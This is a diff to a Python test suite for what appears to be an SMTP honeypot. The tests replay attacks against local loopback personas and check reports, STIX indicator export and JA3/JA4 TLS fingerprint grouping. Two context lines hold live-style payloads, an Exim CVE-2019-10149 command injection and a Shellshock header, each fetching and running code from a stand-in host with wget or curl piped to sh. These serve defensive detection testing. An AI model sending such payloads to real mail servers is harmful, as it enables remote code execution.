@@ -19,6 +19,7 @@ EXPLOITER = "127.0.0.21"
 SMUGGLER = "127.0.0.22"
 MAILER = "127.0.0.23"
 QUITTER = "127.0.0.24"
+TLS_CLIENT = "127.0.0.25"
 # CVE-2019-10149 as in Qualys' advisory, with a terminal escape inside the payload: the report
 # must show it, harmlessly.
 EXIM_RCPT = "RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20http://198.51.100.7/x\x1b[2J\\x22}}@localhost>"
@@ -30,11 +31,13 @@ def talk(address: tuple[str, int], source: str, lines: list[bytes]) -> bytes:
         sock.settimeout(5)
         got = sock.recv(4096)
         for line in lines:
-            sock.sendall(line)
             try:
+                sock.sendall(line)
                 got += sock.recv(65536)
             except TimeoutError:
                 pass
+            except ConnectionError:  # the persona hung up (Postfix does, on some input): as a PoC, stop
+                break
         return got
 
 
@@ -57,6 +60,10 @@ def attacked(tmp_path_factory):
         with smtplib.SMTP(*address, timeout=10, source_address=(MAILER, 0)) as smtp:
             smtp.sendmail("a@example.org", ["b@example.com"],
                           "Subject: () { :; }; /bin/bash -c 'curl http://198.51.100.7/s|sh'\r\n\r\nhi\r\n")
+        for _ in range(2):  # one bot, one fingerprint, two sessions
+            with smtplib.SMTP(*address, timeout=10, source_address=(TLS_CLIENT, 0)) as smtp:
+                smtp.starttls()
+                smtp.ehlo("bot.example")
         host, port = sensor.host, str(sensor.port)
         run = {"capture_output": True, "text": True, "timeout": 180}
         swaks = subprocess.run([require("swaks"), "--server", host, "--port", port, "--to", "b@example.com",
@@ -161,3 +168,20 @@ def test_exploit_indicators_export_as_csv_json_and_a_stix_bundle(attacked):
     assert (by_pattern[f"[ipv4-addr:value = '{EXPLOITER}']"], exim.id) in indicates
     refused = relaypot("export", "sessions", "--format", "stix", *data)
     assert refused.returncode != 0 and "for indicators only" in refused.stderr
+
+
+def test_tls_clients_are_grouped_by_their_ja4(attacked):
+    import ssl
+
+    from relaypot.transport.clienthello import ClientHelloReader
+    from support import client_hello
+
+    reader = ClientHelloReader()  # what smtplib's STARTTLS sends to an address: no SNI
+    reader.feed(client_hello(None))
+    assert reader.hello is not None and reader.hello.ja4.startswith("t13i")
+    tls = [r.event for r in attacked.records("smtp.tls") if r.src_ip == TLS_CLIENT]
+    assert [(e.outcome, e.ja4, e.ja3) for e in tls] == [("established", reader.hello.ja4, reader.hello.ja3)] * 2
+    report = json.loads(relaypot("report", "--format", "json", "--data-dir", str(attacked.data_dir)).stdout)
+    [group] = [f for f in report["attacks"]["tls_fingerprints"] if f["ja4"] == reader.hello.ja4]
+    assert {"src_ip": TLS_CLIENT, "sessions": 2} in group["busiest_sources"] and group["ja3"] == reader.hello.ja3
+    assert ssl.OPENSSL_VERSION  # the fingerprint is of this Python's OpenSSL, computed the same way
